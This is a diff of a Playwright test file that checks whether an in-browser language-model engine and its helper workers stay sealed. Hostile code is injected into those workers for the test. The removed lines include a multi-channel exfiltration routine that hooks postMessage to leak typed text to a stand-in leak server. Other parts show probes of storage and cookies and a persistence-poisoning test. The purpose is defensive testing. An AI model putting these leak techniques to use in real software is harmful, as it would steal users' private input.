@@ -1,68 +1,41 @@
-// The engine worker is sealed: even hostile code in it cannot send what was typed.
+// What is typed stays: no hostile code in a worker can send it, at once or by way of what it stores.
 import type { Page } from 'playwright/test';
 import { App } from './app.ts';
-import { startFaultProxy } from './fault-proxy.ts';
-import { startLeakServer } from './leak-server.ts';
+import { leaking, listening, poisoning, takeOver } from './hostile-code.ts';
+import { type LeakServer, startLeakServer } from './leak-server.ts';
+import { builtScript, StaticHost, type StaticHostOptions } from './static-host.ts';
 import { expect, test } from './test.ts';
 
-/** Put in front of the engine's own code: sees every message to the engine and tries every way out. */
-function attack(elsewhere: string): string {
-  return `
-    const leak = (text) => {
-      for (const base of [location.origin, ${JSON.stringify(elsewhere)}]) {
-        const url = base + '/leak?' + encodeURIComponent(text);
-        const tries = {
-          fetch: () => fetch(url),
-          keepalive: () => fetch(url, { method: 'POST', body: text, keepalive: true, mode: 'no-cors' }),
-          xhr: () => { const xhr = new XMLHttpRequest(); xhr.open('GET', url, false); xhr.send(); },
-          socket: () => new WebSocket(url.replace('http', 'ws')),
-          beacon: () => navigator.sendBeacon(url, text),
-          events: () => new EventSource(url),
-          scripts: () => importScripts(url),
-          module: () => import(url),
-          worker: () => new Worker(url),
-          moduleWorker: () => new Worker(url, { type: 'module' }),
-          nested: () => new Worker(URL.createObjectURL(new Blob(
-            ['fetch("' + url + '").catch(() => {}); import("' + url + '").catch(() => {});'],
-            { type: 'text/javascript' })), { type: 'module' }),
-          transport: () => new WebTransport(url.replace('http:', 'https:')),
-        };
-        for (const [name, run] of Object.entries(tries)) {
-          try { Promise.resolve(run()).catch(() => {}); } catch {}
-        }
-      }
-      console.log('attack ran');
-    };
-    const { postMessage } = MessagePort.prototype;
-    MessagePort.prototype.postMessage = function (...args) {
-      leak(JSON.stringify(args[0])); // every token of the answer
-      return postMessage.apply(this, args);
-    };
-    addEventListener('message', ({ data }) => {
-      data.port?.addEventListener('message', (event) => leak('SECRET ' + JSON.stringify(event.data)));
-    });
-  `;
+const question = 'What is the capital of France?';
+
+let elsewhere: LeakServer;
+let host: StaticHost;
+test.beforeEach(async () => {
+  elsewhere = await startLeakServer();
+});
+test.afterEach(async () => {
+  await host?.stop();
+  elsewhere.close();
+});
+
+async function serve(options: StaticHostOptions): Promise<void> {
+  host = await new StaticHost(options).start();
 }
 
-/** Asks with the attack in the engine; returns the paths of what got out. */
-async function leaksOf(page: Page, appUrl: string, withPolicy: boolean): Promise<string[]> {
-  const elsewhere = await startLeakServer();
-  const proxy = await startFaultProxy(appUrl);
-  try {
-    if (!withPolicy) proxy.withoutHeaders.add('content-security-policy');
-    proxy.rewrite = (path, body) =>
-      path.includes('/engine-') ? attack(elsewhere.url) + body : body;
-    const attacked = page.waitForEvent('console', (message) => message.text() === 'attack ran');
-    const app = await new App(page).open(proxy.url);
-    const answer = await app.ask('What is the capital of France?');
-    await attacked;
-    await expect(answer.text).toContainText('Paris');
-    const own = proxy.requests.map(({ path }) => path).filter((path) => path.includes('leak'));
-    return [...elsewhere.leaked, ...own];
-  } finally {
-    await proxy.close();
-    elsewhere.close();
-  }
+/** What got out, to whichever host. */
+const leaks = () => [...elsewhere.leaked, ...host.requests.filter((path) => path.includes('leak'))];
+
+/** Waits until hostile code says that it has run to its end. */
+async function hasRun(page: Page, what: string): Promise<void> {
+  await expect.poll(() => page.evaluate((name) => caches.has(name), `ran-${what}`)).toBe(true);
+}
+
+/** The engine tells everybody all that it is told, and all that it answers. */
+function makeEngineTell(): void {
+  const tell = `const heard = (text) => { leak(text); if (/answer .*token/.test(text)) ran('told'); };`;
+  takeOver(host, 'engine-wllama.worker', {
+    before: `${leaking(elsewhere.url)}${tell}${listening}`,
+  });
 }
 
 test('the privacy panel says that the engine is sealed, and what was fetched', async ({ page }) => {
@@ -79,25 +52,198 @@ test('the privacy panel says that the engine is sealed, and what was fetched', a
   await expect(panel.getByRole('row').nth(1)).toContainText(/10[0-9] MB/);
 });
 
-test('nothing leaves the engine worker, whatever code runs in it', async ({ page, baseURL }) => {
-  expect(await leaksOf(page, baseURL ?? '', true)).toEqual([]);
-});
+for (const sendsHeaders of [true, false]) {
+  const who = sendsHeaders ? 'the host sends the policy' : 'only the service worker adds a policy';
 
-test('nor where the host sends no policy: the service worker adds it', async ({
-  page,
-  baseURL,
-}) => {
-  expect(await leaksOf(page, baseURL ?? '', false)).toEqual([]);
-});
+  test(`nothing leaves the engine worker, whatever code runs in it, where ${who}`, async ({
+    page,
+  }) => {
+    await serve({ sendsHeaders });
+    makeEngineTell();
+    const app = await new App(page).open(host.url);
+    await expect((await app.ask(question)).text).toContainText('Paris');
+    await hasRun(page, 'told');
+    expect(leaks()).toEqual([]);
+  });
+}
 
 test.describe('without a service worker', () => {
   test.use({ serviceWorkers: 'block' });
 
-  test('without the policy the same code does get out, so the test above can fail', async ({
+  test('an engine that no policy seals is told nothing, and the visitor is told why', async ({
     page,
-    baseURL,
   }) => {
-    const leaks = (await leaksOf(page, baseURL ?? '', false)).join();
-    expect(leaks).toContain('SECRET');
+    await serve({ sendsHeaders: false });
+    makeEngineTell();
+    const app = await new App(page).open(host.url);
+    const answer = await app.ask('My typed text');
+    await answer.failsWith('engine-unsealed');
+    await expect(answer.error).toContainText('Nothing was handed to the engine');
+    expect(leaks().join()).not.toContain('typed');
+    // The same code does get out where it is told something: so the tests here can fail.
+    await page.evaluate(async () => {
+      const name = performance
+        .getEntriesByType('resource')
+        .map((entry) => entry.name)
+        .find((url) => url.includes('engine-wllama'));
+      const { port1, port2 } = new MessageChannel();
+      new Worker(name ?? '', { type: 'module' }).postMessage(
+        { type: 'connect', port: port2, lockName: 'test' },
+        [port2],
+      );
+      port1.postMessage({ type: 'unload', requestId: 1, text: 'typed' });
+    });
+    await expect.poll(() => leaks().join()).toContain('typed');
   });
+});
+
+test('what an engine writes into caches, databases, files and channels lets nothing out later', async ({
+  page,
+  context,
+}) => {
+  await serve({ sendsHeaders: true });
+  const heard = `let told = false; const heard = (text) => {
+    if (told || !/SECRET .*prompt/.test(text)) return;
+    told = true;
+    poison(text).then(() => ran('poisoned'), (error) => console.error('attack failed', error));
+  };`;
+  const before = `${leaking(elsewhere.url)}${poisoning(elsewhere.url)}${heard}${listening}`;
+  takeOver(host, 'engine-wllama.worker', { before });
+  const app = await new App(page).open(host.url);
+  await app.isKept();
+  await expect((await app.ask(question)).text).toContainText('Paris');
+  await hasRun(page, 'poisoned');
+  await page.close();
+
+  const later = await new App(await context.newPage()).open(host.url);
+  // All that is loaded late, too.
+  await later.page.getByRole('button', { name: 'Settings' }).click();
+  const settings = later.page.getByRole('dialog', { name: 'Settings' });
+  await settings.getByRole('button', { name: 'Close' }).click();
+  const state = () =>
+    later.page.evaluate(() => {
+      const style = getComputedStyle(document.documentElement);
+      return 'poisoned' in globalThis || style.getPropertyValue('--poisoned') !== '';
+    });
+  await expect.poll(state).toBe(false);
+
+  // The model of the visitor's own that the engine has added and chosen: its address is shown before it is asked.
+  await expect(later.modelsButton).toHaveAccessibleName(/own-here, not on this device yet/);
+  await (await later.ask(question)).failsWith('host-unconfirmed');
+  await later.current().button('Models').click();
+  const card = later.card('own-here');
+  await expect(card).toContainText(`${host.url}leak-`);
+  const elsewhereCard = later.card('own-elsewhere');
+  await expect(elsewhereCard).toBeVisible();
+  await expect(elsewhereCard).not.toContainText('leak-');
+  expect(leaks()).toEqual([]);
+  await card.getByRole('button', { name: 'Download own-here' }).click();
+  await expect.poll(leaks).toHaveLength(1);
+  await later.models.getByRole('radio', { name: 'SmolLM2 135M' }).check();
+  await later.models.getByRole('button', { name: 'Close' }).click();
+  await expect((await later.ask(question)).text).toContainText('Paris');
+  expect(leaks()).toHaveLength(1);
+});
+
+/** Tells which of the things that lead to what is stored are within reach. */
+const reaching = `addEventListener('message', async () => {
+  const reached = [];
+  const tries = {
+    databases: () => indexedDB.open('corral-conversations'),
+    caches: () => caches.keys(),
+    files: () => navigator.storage.getDirectory(),
+    buckets: () => navigator.storageBuckets.open('default'),
+    channel: () => new BroadcastChannel('corral-conversations'),
+    worker: () => new Worker(URL.createObjectURL(new Blob(['1']))),
+    serviceWorker: () => navigator.serviceWorker.ready,
+    cookies: () => cookieStore.getAll(),
+    oldFiles: () => webkitRequestFileSystem(0, 1, () => {}, () => {}),
+  };
+  for (const [name, run] of Object.entries(tries)) {
+    try { run(); reached.push(name); } catch {}
+  }
+  fetch('/leak?reached=' + reached.join());
+});`;
+
+test('who fetches models reads nothing that is stored, and who stores them connects to nobody', async ({
+  page,
+}) => {
+  await serve({ sendsHeaders: true });
+  takeOver(host, 'fetch.worker', { after: reaching });
+  const tell = `addEventListener('message', ({ data }) => {
+    leak('typed ' + data.type);
+    if (data.type === 'download') ran('stored');
+  });`;
+  takeOver(host, 'download.worker', { before: `${leaking(elsewhere.url)}${tell}` });
+  const queries: string[] = [];
+  page.context().on('request', (request) => queries.push(new URL(request.url()).search));
+  const app = await new App(page).open(host.url);
+  await expect((await app.ask(question)).text).toContainText('Paris');
+  await hasRun(page, 'stored');
+  // The one request that the fetching worker made on its own: the code in it did run, and reached nothing.
+  expect(leaks()).toEqual(['/leak']);
+  expect(elsewhere.leaked).toEqual([]);
+  expect(queries.filter((query) => query.includes('reached'))).toEqual(['?reached=']);
+});
+
+test('the page itself can fetch from its own origin alone', async ({ page }) => {
+  await serve({ sendsHeaders: true });
+  await new App(page).open(host.url);
+  const hosts = ['https://huggingface.co/', 'https://raw.githubusercontent.com/', elsewhere.url];
+  await page.evaluate((urls) => {
+    const blocked: string[] = [];
+    Object.assign(globalThis, { blocked });
+    addEventListener('securitypolicyviolation', ({ blockedURI }) => blocked.push(blockedURI));
+    for (const url of urls) fetch(url).catch(() => {});
+  }, hosts);
+  const blocked = () =>
+    page.evaluate(() => (globalThis as unknown as { blocked: string[] }).blocked);
+  // By the header's policy, and by the page's own.
+  const origins = async () => [...new Set((await blocked()).map((url) => new URL(url).origin))];
+  await expect
+    .poll(async () => (await origins()).sort())
+    .toEqual(hosts.map((url) => new URL(url).origin).sort());
+  expect(elsewhere.leaked).toEqual([]);
+});
+
+test('which files a model has is never read from where an engine could have written it', async ({
+  page,
+}) => {
+  await serve({ sendsHeaders: true });
+  await new App(page).open(host.url);
+  const outcome = await page.evaluate(
+    async ([downloads, fetches]) => {
+      const folder = new URL('models/cria/resolve/main/', document.baseURI).href;
+      const index = { records: [{ dataPath: 'leak-typed.bin', nbytes: 5, records: [] }] };
+      const opening = indexedDB.open('corral-weights');
+      opening.onupgradeneeded = () => opening.result.createObjectStore('files');
+      await new Promise((resolve) => (opening.onsuccess = resolve));
+      const transaction = opening.result.transaction('files', 'readwrite');
+      const put = (name: string, text: string) => {
+        const manifest = { sizeBytes: text.length, expected: '', hash: '', complete: true };
+        transaction.objectStore('files').put(manifest, `cria/${name}`);
+        transaction.objectStore('files').put(new Blob([text]), `cria/${name}#00000`);
+      };
+      put('tensor-cache.json', JSON.stringify(index));
+      put('mlc-chat-config.json', JSON.stringify({ tokenizer_files: ['tokenizer.json'] }));
+      await new Promise((resolve) => (transaction.oncomplete = resolve));
+      opening.result.close();
+      const [store, fetcher] = [downloads, fetches].map(
+        (url) => new Worker(url, { type: 'module' }),
+      );
+      const { port1, port2 } = new MessageChannel();
+      const library = `${folder}cria.wasm`;
+      fetcher!.postMessage({ port: port1, place: { files: [library], folder } }, [port1]);
+      const source = { kind: 'mlc', modelId: 'cria', sizeBytes: 1, pinned: {}, folder, library };
+      store!.postMessage({ type: 'download', requestId: 1, source, network: port2 }, [port2]);
+      return new Promise<string>((resolve) => {
+        store!.onmessage = ({ data }: MessageEvent<{ type: string }>) => {
+          if (['stored', 'failed'].includes(data.type)) resolve(data.type);
+        };
+      });
+    },
+    [builtScript('download.worker'), builtScript('fetch.worker')] as const,
+  );
+  expect(outcome).toBe('stored');
+  expect(leaks()).toEqual([]);
 });
